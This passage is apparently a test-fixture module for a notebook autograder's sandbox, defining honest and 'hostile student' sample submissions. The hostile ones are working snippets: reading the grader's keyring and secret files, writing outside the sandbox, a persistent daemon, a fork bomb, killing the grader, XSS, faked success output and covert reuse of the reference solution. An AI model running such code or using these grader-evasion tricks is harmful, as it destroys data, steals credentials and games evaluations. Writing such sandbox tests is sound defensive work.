    _original_init(self, *args, **kwargs)


CausalConv1d.__init__ = _recording_init
"""
PRINTS_ARGUMENTS = """import ctypes
import errno
import platform

print("RECORDED-ARGUMENTS", len(SEEN_ARGUMENTS), SEEN_ARGUMENTS[-30:])
keyctl = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
if keyctl:  # the grader's session keyring: KEYCTL_GET_KEYRING_ID
    result = ctypes.CDLL(None, use_errno=True).syscall(keyctl, 0, -3, 0)
    print("KEYRING", result, errno.errorcode.get(ctypes.get_errno()))
"""
THREADED_REFERENCE = """import threading

from toylib import layers as _layers


def _in_a_thread(function, *args):
    box = {}
    worker = threading.Thread(target=lambda: box.setdefault("value", function(*args)))
    worker.start()
    worker.join()
    return box["value"]


class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        reference = getattr(_layers, "Causal" + "Conv1d")  # looked up by a string
        self.inner = _in_a_thread(reference, in_channels, out_channels, kernel_size, dilation,
                                  hide_present, bias)
        self.conv = self.inner.conv

    def forward(self, x):
        return _in_a_thread(self.inner, x)  # run where the main thread's profile hook is not
"""
# a server thread started in a helper cell, long before any test, runs the course's layer for
# the answer (an import outside the answer cells, no computed name, no gc): caught only if the
# reference refuses to run in any thread while a test runs
OLD_THREAD_SERVER = """import queue
import threading

from toylib.layers import CausalConv1d as _Course  # imported in a cell that is not an answer

_jobs = queue.Queue()


def _serve():
    while True:
        function, args, box, done = _jobs.get()
        try:
            box.append(function(*args))
        except BaseException as error:
            box.append(error)
        done.set()


threading.Thread(target=_serve, daemon=True).start()  # started before any test runs


def _remote(function, *args):
    box, done = [], threading.Event()
    _jobs.put((function, args, box, done))
    done.wait()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]
"""
OLD_THREAD_ANSWER = """class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        self.inner = _remote(_Course, in_channels, out_channels, kernel_size, dilation,
                             hide_present, bias)
        self.conv = self.inner.conv

    def forward(self, x):
        return _remote(self.inner, x)
"""
# the same, and it also wipes the worker's record of it (found by walking up the stack): the
# worker's evidence is advisory, the tripwire still stops the course's layer from running
HIDDEN_OLD_THREAD_ANSWER = """import sys


def _wipe_records():
    frame = sys._getframe()
    while frame is not None:
        worker = frame.f_locals.get("self")
        if type(worker).__name__ == "Worker":
            worker.reused.clear()
            worker.reported.clear()
        frame = frame.f_back


class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        try:
            self.inner = _remote(_Course, in_channels, out_channels, kernel_size, dilation,
                                 hide_present, bias)
        finally:
            _wipe_records()
        self.conv = self.inner.conv

    def forward(self, x):
        try:
            return _remote(self.inner, x)
        finally:
            _wipe_records()
"""
# the kernel's key store: read the grader's session keyring (an instructor's token), leave a
# key in the uid's keyring for the next student of the slot; the sandbox refuses both
KEYS = """import ctypes
import errno
import platform

NUMBERS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
add_key, keyctl = NUMBERS.get(platform.machine(), (None, None))
libc = ctypes.CDLL(None, use_errno=True)


def attempt(number, *args):
    if number is None:
        return "unknown CPU"
    done = libc.syscall(number, *args)
    return "ok" if done >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")


buffer = ctypes.create_string_buffer(4096)
print("read the grader's session keyring:", attempt(keyctl, 11, -3, buffer, 4096))
print("leave a key for the next student:",
      attempt(add_key, b"user", b"left-behind", b"secret", 6, -4))
"""
# processes in sessions of their own, spinning: with a cgroup per worker they share its one
# core and are killed with it; the neighbour graded beside them keeps its grade either way
SPINNERS = """import os
import time

for _ in range(10):
    if os.fork() == 0:
        os.setsid()
        start = time.process_time()
        while time.process_time() - start < 1.0:  # one CPU second each
            pass
        os._exit(0)
print("10 processes spinning in sessions of their own")
"""
# 16 noise images (about 160 kB each once encoded) per cell, in three cells: past the
# notebook's image budget, whatever each cell's own caps allow
IMAGES = """import struct
import zlib

from IPython.display import Image, display


def noise_png(seed, size=200):
    rows = b"".join(b"\\x00" + bytes((seed * 7919 + i * 104729 + (i >> 5) * 31) % 251
                                      for i in range(r * size * 3, (r + 1) * size * 3))
                   for r in range(size))

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(rows, 0)) + chunk(b"IEND", b""))


for seed in range(16):
    display(Image(data=noise_png(seed), format="png"))
"""
GC_REFERENCE = """import gc

CausalConv1d = next(o for o in gc.get_objects() if isinstance(o, type)
                    and o.__name__ == "CausalConv1d" and o.__module__.startswith("toy"))
"""
READ_SECRETS = """import glob
import os
import pwd
import tempfile

import toylib

found = []
repo = os.path.dirname(os.path.dirname(toylib.__file__))
tmp = tempfile.gettempdir()
for pattern in [repo + "/solutions/*/*.ipynb", repo + "/tests/submissions/*/*/*.ipynb",
                repo + "/.grading/*", "../*/*/*.ipynb", "../../*/*/*.ipynb",
                pwd.getpwuid(0).pw_dir + "/*", "/home/*/*", "../../gradebook.db",
                tmp + "/*/grades.csv", tmp + "/*/*/grades.csv"]:
    found += glob.glob(pattern, recursive=True)
for path in found[:5]:
    with open(path, encoding="utf-8", errors="replace") as f:
        print(path, f.read()[:2000])
        if "BEGIN " + "HIDDEN" in f.read():
            print("jackpot: the hidden tests")
print("environment:", dict(os.environ))
print("found", len(found), "files")
"""
WRITE_OUTSIDE = f"""import os
import pwd
import tempfile

import toylib

repo = os.path.dirname(os.path.dirname(toylib.__file__))
root_home = pwd.getpwuid(0).pw_dir
targets = [os.path.expanduser("~/{HOST_MARKER}.txt"), os.path.join(root_home, "{HOST_MARKER}.txt"),
           os.path.join(tempfile.gettempdir(), "{HOST_MARKER}.txt"),
           os.path.join(repo, "{HOST_MARKER}.txt"),
           os.path.join(os.getcwd(), "..", "{HOST_MARKER}.txt")]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("pwned")
    except OSError as error:
        print("could not write", target, type(error).__name__)
for name in ["toylib/checks.py", "grader/nbgrader_config.py"]:
    try:
        with open(os.path.join(repo, name), "a") as f:
            f.write("\\nimport os, tempfile; open(os.path.join(tempfile.gettempdir(), "
                    "'{HOST_MARKER}-config'), 'w')\\n")
    except OSError as error:
        print("could not append to", name, type(error).__name__)
"""
DAEMON = f"""import os
import sys
import tempfile

import toylib

repo = os.path.dirname(os.path.dirname(toylib.__file__))
if os.fork() == 0:  # double fork: a daemon that outlives the kernel
    os.setsid()
    if os.fork() == 0:
        script = ("sleep 4; for f in {{repo}}/tests/submissions/*/*/*.ipynb; do "
                  "echo pwned > $f; done; echo pwned > {{tmp}}/{HOST_MARKER}-daemon; "
                  "sleep 60 # {HOST_MARKER}-daemon").format(repo=repo, tmp=tempfile.gettempdir())
        os.execv("/bin/sh", ["sh", "-c", script])
    os._exit(0)
print("daemon started")
"""
KILL_PARENT = """import os
import signal

print("goodbye, grader")
os.kill(os.getppid(), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
"""
FAKE_SUCCESS = """import os

print("shape checks passed\\nvalue checks passed\\ncausality checks passed\\n45 / 45 points")
os._exit(0)
"""
SWALLOW_INTERRUPT = """while True:
    try:
        total = sum(range(100_000))
    except KeyboardInterrupt:
        pass  # keep going
"""
ALLOCATE = """import torch

try:
    huge = torch.empty(50 * 2**30 // 4)  # 50 GB of float32
except RuntimeError as error:
    print("torch refused:", str(error)[:80])
try:
    huge = bytearray(50 * 2**30)
except MemoryError:
    print("Python refused: MemoryError")
"""
FORK_BOMB = """import os
import time

children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print(f"stopped after {children} children: {error}")
"""
PRINT_100MB = """import os

for _ in range(100):
    print("x" * 1_000_000)
os.write(1, b"y" * 20_000_000)
os.write(2, b"z" * 20_000_000)
"""
XSS = """from IPython.display import HTML, Javascript, display

display(HTML("<script>alert('xss')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('xss')"))
print("<script>alert('printed')</script>")
raise ValueError("</pre><script>alert('error')</script>")
"""
QUOTE_CALLER = """import inspect


class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        self.conv = nn.Conv1d(in_channels, out_channels, kernel_size, dilation=dilation,
                              bias=bias)

    def forward(self, x):  # leaks the caller's source in its error message
        frames = inspect.stack()
        raise RuntimeError("\\n".join(line for f in frames for line in (f.code_context or [])))
"""
INJECT_REPLIES = """import json
import os
import struct

# write fake "all went well" replies into every pipe the worker holds, hoping the grader reads
# them instead of the real ones
body = json.dumps({"outputs": [], "error": False, "value": ["b", True]}).encode()
for fd in range(3, 32):
    try:
        os.write(fd, struct.pack(">I", len(body)) + body)
    except OSError:
        pass
"""
MAGICS = """%matplotlib inline
%load_ext autoreload
%autoreload 2
import matplotlib.pyplot as plt

torch.set_default_dtype(torch.float64)  # changes torch.Storage: torch's own doing, not tampering
torch.set_default_dtype(torch.float32)
plt.plot(torch.arange(5).tolist())
plt.show()
%time sum(range(10))
!echo a shell command, run in a terminal as IPython does
files = !ls
1 + 1
"""
NOISY = """
import warnings

from tqdm.auto import tqdm

for _ in tqdm(range(3), desc="warming up"):
    pass
warnings.warn("this layer is slow (an honest warning)")
"""


# honest habits that must never cost a mark -----------------------------------------------------
NO_GRAD_GENERATE = """@torch.no_grad()  # torch's decorator: one wrapper code for every function
def generate(model, nb_sequences, length, nb_classes, generator=None):
    \"\"\"Sample nb_sequences sequences of length tokens: LongTensor (N, T).\"\"\"
    tokens = torch.zeros(nb_sequences, length, dtype=torch.long)  # (N, T)
    for t in range(length):
        logits = model(toylib.data.tokens_to_input(tokens, nb_classes))  # (N, T, C)
        probs = torch.softmax(logits[:, t], dim=-1)  # (N, C)
        tokens[:, t] = torch.multinomial(probs, 1, generator=generator).squeeze(1)  # (N,)
    return tokens
"""
PREDICT_METHOD = """

    @torch.inference_mode()
    def predict(self, x):
        \"\"\"Probabilities of x[t] given x[:t]: (B, 1, T) -> (B, T, nb_classes).\"\"\"
        return torch.softmax(self(x), dim=-1)
"""
PROFILERS = """import cProfile

import torch.profiler

x = torch.randn(2, 1, 16)  # (B, 1, T)
%prun -q -l 3 ToyNet(5)(x)
%timeit -n 1 -r 1 ToyNet(5)(x)
with torch.profiler.profile() as prof:
    ToyNet(5)(x)
print(prof.key_averages().table(row_limit=3))
profiler = cProfile.Profile()
profiler.enable()  # forgotten: still profiling when the cell ends
ToyNet(5)(x)
"""
FLOAT64 = """torch.set_default_dtype(torch.float64)  # more precision for my own experiments
"""
HELPER_THREADS = """import toylib.data
import toylib.train
from tqdm.auto import tqdm

tokens = toylib.data.make_sequences(64, length=16, nb_classes=5, seed=0)  # (N, T)
history = toylib.train.train(ToyNet(5), tokens, 5, epochs=2, progress=False)  # tqdm's thread
for _ in tqdm(range(3), desc="warming up"):
    pass
loader = torch.utils.data.DataLoader(torch.utils.data.TensorDataset(tokens), batch_size=16,
                                     num_workers=2)
print(sum(len(batch) for (batch,) in loader), "sequences read by two DataLoader workers")
"""


def samples(kit) -> dict:
    """{student: make(released notebook) -> notebook, text, bytes or {path: data}}."""
    good = kit.good
    right_pad = dict(good, causal_conv1d=kit.replace(
        good["causal_conv1d"], "F.pad(x, (left, 0))", "F.pad(x, (0, left))"))
    off_by_one = dict(good, generate=kit.replace(good["generate"], "logits[:, t]",
                                                 "logits[:, t - 1]"))
    looping = dict(good, generate=good["generate"] + (
        "\n\n\n# trying something out, left running by mistake\n"
        "step = 0\nwhile step >= 0:\n    step += 1\n"))
    crashing = dict(good, toy_net="import os\n\nos._exit(1)  # the kernel dies here\n\n"
                    + good["toy_net"])
    noisy = dict(good, causal_conv1d=kit.replace(
        good["causal_conv1d"], "        left = (self.kernel_size - 1) * self.dilation\n",
        "        left = (self.kernel_size - 1) * self.dilation\n"
        "        warnings.warn('forward was called')  # noisy but right\n"
        "        print('forward', tuple(x.shape), file=sys.stderr)\n") + NOISY
        .replace("import warnings\n", "import sys\nimport warnings\n"))

    no_grad = dict(good, generate=NO_GRAD_GENERATE, toy_net=good["toy_net"].rstrip("\n")
                   + PREDICT_METHOD)
    debugger = dict(good, generate="import pdb\n\n\n" + kit.replace(
        good["generate"], "    tokens = torch.zeros(",
        "    pdb.set_trace()  # left over from debugging\n    tokens = torch.zeros("))
    hangs = dict(good, generate=kit.replace(kit.replace(
        good["generate"], "        for t in range(length):\n", "        t = 0\n"
        "        while t < length:  # a while loop, and one way out forgotten\n"),
        "squeeze(1)  # (N,)\n", "squeeze(1)  # (N,)\n            if t < length - 1:\n"
        "                t += 1\n"))

    def deleted_test_cell(nb):
        nb = kit.fill(nb, good)
        nb.cells = [c for c in nb.cells if grade_id(c) != "test_causal_conv1d_is_causal"]
        for cell in nb.cells:  # and an edited test cell: both are restored when grading
            if grade_id(cell) == "test_causal_conv1d_values":
                cell.source = "pass  # the tests were too strict"
        del nb.metadata["kernelspec"]  # and no kernelspec: the grader picks the kernel itself
        return nb

    def stripped_metadata(nb):
        nb = kit.fill(nb, good)
        for cell in nb.cells:
            cell.metadata.pop("nbgrader", None)
        return nb

    def duplicated_test_cell(nb):  # a copy-paste in JupyterLab: same cell, same grade id
        nb = kit.fill(nb, good)
        index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "test_toy_net_shape")
        twin = copy.deepcopy(nb.cells[index])
        twin.id = "pasted-copy"
        nb.cells.insert(index + 1, twin)
        return nb

    def duplicated_answer_cell(nb):  # a first wrong try kept above the right one
        nb = kit.fill(nb, good)
        index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "causal_conv1d")
        first_try = copy.deepcopy(nb.cells[index])
        first_try.id = "first-try"
        first_try.source = right_pad["causal_conv1d"]
        nb.cells.insert(index, first_try)
        return nb

    def tests_made_answers(nb):  # test cells unlocked, emptied, and worth more points
        nb = kit.fill(nb, good)
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade"):
                meta.update(points=100)
            if grade_id(cell) == "test_causal_conv1d_values":
                meta.update(solution=True, grade=False, locked=False)
                cell.source = "pass"
        return nb

    # hostile code goes after the last answer cell by default: a fork bomb leaves the worker no
    # thread to run a later answer cell with for 30 s, which would cost that answer instead
    def hostile(answers: dict[str, str], code: str | None = None,
                after: str = "causal_conv1d_packed"):
        def make(nb):
            nb = kit.fill(nb, answers)
            return kit.with_cell(nb, code, after) if code else nb
        return make

    blank_layer = dict(good, causal_conv1d=ZEROS)
    return {
        # honest students -------------------------------------------------------------------
        "perfect": hostile(good),
        "ex02_fft_convolution": kit.with_answers(
            causal_conv1d=kit.variant("causal_conv1d", "fft_convolution")),
        "ex02_packed_loop_over_segments": kit.with_answers(
            causal_conv1d_packed=kit.variant("causal_conv1d_packed", "loop_over_segments")),
        "ex02_packed_boundary_off_by_one": kit.with_answers(
            causal_conv1d_packed=kit.variant("causal_conv1d_packed", "boundary_off_by_one_tap")),
        "ex02_packed_asserts_instead_of_errors": kit.with_answers(
            causal_conv1d_packed=kit.variant("causal_conv1d_packed",
                                             "asserts_instead_of_value_errors")),
        "ex02_generate_temperature_left_in": kit.with_answers(
            generate=kit.variant("generate", "temperature_left_in")),
        "blank": lambda nb: nb,
        "right_padding_leak": hostile(right_pad),
        "buggy_generate": hostile(off_by_one),
        "noisy_but_right": hostile(noisy),
        "magics_and_plots": hostile(good, MAGICS, "setup"),
        "infinite_loop": hostile(looping),
        "crashed": hostile(crashing),
        "deleted_test_cell": deleted_test_cell,
        "stripped_metadata": stripped_metadata,
        "duplicated_test_cell": duplicated_test_cell,
        "duplicated_answer_cell": duplicated_answer_cell,
        "tests_made_answers": tests_made_answers,
        "empty_notebook": lambda nb: nbformat.v4.new_notebook(),
        "invalid_json": lambda nb: nbformat.writes(kit.fill(nb, good))[:5000],
        "not_a_notebook": lambda nb: '{"answer": "see the attached PDF"}\n',
        "not_utf8": lambda nb: nbformat.writes(kit.fill(nb, good)).encode("utf-8").replace(
            b"causal convolution", b"causal convolution \xff\xfe", 1),
        # honest habits: decorators, debuggers and profilers left in, another default dtype,
        # helper threads and processes, a test past its limit after them, a name like a folder
        "no_grad_decorators": hostile(no_grad),
        "leftover_debuggers": hostile(debugger, PROFILERS, "toy_net"),
        "float64_default": hostile(good, FLOAT64, "setup"),
        "helper_threads": hostile(good, HELPER_THREADS, "toy_net"),
        "helper_threads_then_hangs": hostile(hangs, HELPER_THREADS, "toy_net"),
        ASSIGNMENT: hostile(good),
        # hostile students ------------------------------------------------------------------
        "patches_checker": hostile(dict(good, causal_conv1d=PATCH_CHECKER)),
        "patches_torch": hostile(dict(good, causal_conv1d=PATCH_TORCH)),
        "patches_conv_forward": hostile(dict(good, causal_conv1d=PATCH_CONV)),
        "patches_builtins": hostile(dict(good, causal_conv1d=PATCH_BUILTINS)),
        "patches_and_restores": hostile(dict(good, causal_conv1d=PATCH_AND_RESTORE)),
        "sets_trace_hook": hostile(dict(good, causal_conv1d=SETTRACE)),
        "input_transformer": hostile(dict(good, causal_conv1d=INPUT_TRANSFORMER)),
        "ast_transformer": hostile(dict(good, causal_conv1d=AST_TRANSFORMER)),
        "fake_execute_result": hostile(dict(good, causal_conv1d=FAKE_RESULT)),
        "reexports_reference": hostile(dict(good, causal_conv1d=REEXPORT)),
        "subclasses_reference": hostile(dict(good, causal_conv1d=SUBCLASS)),
        "obfuscated_reference": hostile(dict(good, causal_conv1d=OBFUSCATED)),
        "delegates_to_reference": hostile(dict(good, causal_conv1d=DELEGATE)),
        "reference_in_a_thread": hostile(dict(good, causal_conv1d=THREADED_REFERENCE)),
        "records_test_arguments": hostile(
            dict(good, causal_conv1d=good["causal_conv1d"] + RECORDER), PRINTS_ARGUMENTS),
        "reference_found_by_gc": hostile(dict(good, causal_conv1d=GC_REFERENCE)),
        "reference_in_an_older_thread": hostile(dict(good, causal_conv1d=OLD_THREAD_ANSWER),
                                                OLD_THREAD_SERVER, "setup"),
        "reads_and_plants_keys": hostile(good, KEYS),
        "spins_in_new_sessions": hostile(good, SPINNERS),
        "floods_images": lambda nb: kit.with_cell(kit.with_cell(
            hostile(good, IMAGES, "setup")(nb), IMAGES, "causal_conv1d"), IMAGES, "toy_net"),
        "reference_hides_its_tracks": hostile(
            dict(good, causal_conv1d=HIDDEN_OLD_THREAD_ANSWER), OLD_THREAD_SERVER, "setup"),
        "reads_secrets": hostile(blank_layer, READ_SECRETS, "causal_conv1d"),
        "writes_outside": hostile(good, WRITE_OUTSIDE),
        "leaves_daemon": hostile(good, DAEMON),
        "kills_parent": hostile(good, KILL_PARENT),
        "injects_replies": hostile(blank_layer, INJECT_REPLIES, "causal_conv1d"),
        "fakes_success_and_exits": hostile(blank_layer, FAKE_SUCCESS, "causal_conv1d"),
        "swallows_interrupt": hostile(good, SWALLOW_INTERRUPT),
        "allocates_50gb": hostile(good, ALLOCATE),
        "fork_bomb": hostile(good, FORK_BOMB),
        "prints_100mb": hostile(good, PRINT_100MB),
        "xss_outputs": hostile(good, XSS),
        "quotes_caller_source": hostile(dict(good, causal_conv1d=QUOTE_CALLER)),
            # layout problems: a notebook under another name, an assignment the course does not
        # have, a second notebook next to the graded one
        "renamed_notebook": lambda nb: {
            f"{ASSIGNMENT}/{ASSIGNMENT}_copy.ipynb": kit.fill(nb, good)},
        "unknown_assignment": lambda nb: {"99_not_an_assignment/notes.ipynb": nb},
        "two_notebooks": lambda nb: {f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb": kit.fill(nb, good),
                                     f"{ASSIGNMENT}/{ASSIGNMENT}-Copy1.ipynb": kit.fill(nb, good)},
    }


def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
